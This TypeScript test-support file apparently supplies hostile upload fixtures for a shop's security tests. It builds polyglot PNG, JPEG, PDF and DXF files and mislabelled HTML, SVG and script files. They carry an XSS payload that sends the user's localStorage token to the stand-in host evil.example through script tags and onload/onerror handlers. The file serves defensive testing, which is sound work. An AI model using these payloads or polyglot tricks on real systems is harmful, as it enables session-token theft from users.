import { sampleFiles } from '#tests/support/files/sample-files.ts'
import { scriptedPdf } from '#tests/support/files/sample-pdf.ts'
import { dxfOf } from '#tests/support/files/small-dxf.ts'

/** A file that would send away the token of whoever opens it, if anything in it ran. */
export type HostileFile = { what: string; name: string; contentType: string; bytes: Uint8Array<ArrayBuffer> }

const STEALS = "ran=1;fetch('https://evil.example/?'+localStorage.getItem('token'))"
const PAGE = `<!doctype html><script>${STEALS}</script><img src=x onerror="${STEALS}">`
const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" onload="${STEALS}"><script>${STEALS}</script></svg>`
const bytesOf = (text: string) => new TextEncoder().encode(text)
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts))

/** Files that are what they claim, and something else besides. */
export async function polyglots(): Promise<HostileFile[]> {
  const { png, jpeg } = sampleFiles
  const comment = bytesOf(`*/=1;${STEALS};/*<script>${STEALS}</script>`)
  const marker = new Uint8Array([0xff, 0xfe, 0, comment.length + 2])
  const [image, document] = ['image/png', 'application/pdf']
  return [
    {
      what: 'PNG with a page behind it',
      name: 'a.png',
      contentType: image,
      bytes: joined(png, bytesOf(PAGE)),
    },
    {
      what: 'JPEG with a script in a comment',
      name: 'a.jpg',
      contentType: 'image/jpeg',
      bytes: joined(jpeg.subarray(0, 2), marker, comment, jpeg.subarray(2)),
    },
    {
      what: 'PDF with scripts that run when it is opened',
      name: 'a.pdf',
      contentType: document,
      bytes: new Uint8Array(await scriptedPdf('A receipt')),
    },
    {
      what: 'PDF with a page inside',
      name: 'b.pdf',
      contentType: document,
      bytes: joined(sampleFiles.pdf.subarray(0, 9), bytesOf(`%${PAGE}\n`), sampleFiles.pdf.subarray(9)),
    },
  ]
}

/** Files that the shop refuses; here they lie in it all the same, as if its checks had been passed by. */
export function smuggled(): HostileFile[] {
  const under = (contentType: string) => [
    { what: `page under ${contentType}`, name: 'page.html', contentType, bytes: bytesOf(PAGE) },
    { what: `SVG under ${contentType}`, name: 'drawing.svg', contentType, bytes: bytesOf(DRAWING) },
    { what: `script under ${contentType}`, name: 'script.js', contentType, bytes: bytesOf(STEALS) },
  ]
  return ['image/png', 'application/pdf', 'text/html', 'image/svg+xml', 'text/javascript'].flatMap(under)
}

/** A drawing that the shop takes as a plan, with markup for words. */
export function hostilePlan(): HostileFile {
  const word = [0, 'TEXT', 8, PAGE, 10, 0, 20, 0, 40, 2, 1, DRAWING]
  const bytes = dxfOf([], word, [0, 'LINE', 8, 0, 10, 0, 20, 0, 11, 9, 21, 9]).slice()
  return { what: 'DXF with markup for words', name: 'a.dxf', contentType: 'application/octet-stream', bytes }
}
